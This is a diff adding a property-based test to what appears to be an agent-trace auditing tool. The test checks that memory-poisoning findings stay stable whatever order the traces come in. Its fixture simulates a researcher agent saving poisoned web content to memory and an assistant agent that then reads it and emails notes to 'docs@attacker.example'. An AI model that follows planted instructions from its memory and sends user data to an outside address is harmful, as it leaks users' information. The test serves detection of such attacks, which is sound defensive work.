@@ -11,6 +11,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 import orchtrace
@@ -249,3 +251,35 @@ def test_av4_agent_reading_back_its_own_write_is_the_plain_flow() -> None:
     [t] = cap.trace_dicts()
     codes = {f.code for f in audit_trace(t)}
     assert "OTA104" not in codes and codes & {"OTA101", "OTA102"}
+
+
+def _pair(k: int, poisoned: bool) -> list[dict[str, Any]]:
+    WEB[f"https://site{k}.example/p"] = POISONED if poisoned else CLEAN
+    with capture_traces() as cap:
+        with orchtrace.task(f"w{k}", "write"):
+            orchtrace.agent(name="researcher")(
+                lambda: orchtrace.memory_write(f"key-{k}", fetch_page(f"https://site{k}.example/p")[:40] + " notes"))()
+        with orchtrace.task(f"r{k}", "read"):
+            orchtrace.agent(name="assistant")(lambda: (orchtrace.memory_read(f"key-{k}", "notes"),
+                                                       send_email("docs@attacker.example", "trip", "notes")))()
+    return cap.trace_dicts()
+
+
+_PAIRS: list[dict[str, Any]] = []
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.permutations(range(8)))
+def test_av4_findings_do_not_depend_on_input_order(order: list[int]) -> None:
+    """Eight traces (four writer/reader pairs, two poisoned), fed in any order: the same
+    memory findings, each naming its writing trace."""
+    if not _PAIRS:
+        for k in range(4):
+            _PAIRS.extend(_pair(k, poisoned=k % 2 == 0))
+
+    def key(result: Any) -> set[tuple[str, str, str]]:
+        return {(f.task_id, f.severity, f.details["written_in_trace"]) for f in result.findings if f.code == "OTA104"}
+
+    expected = key(run_audit(_PAIRS))
+    assert {t for t, sev, _ in expected if sev in ("high", "critical")} == {"r0", "r2"}
+    assert key(run_audit([_PAIRS[i] for i in order])) == expected
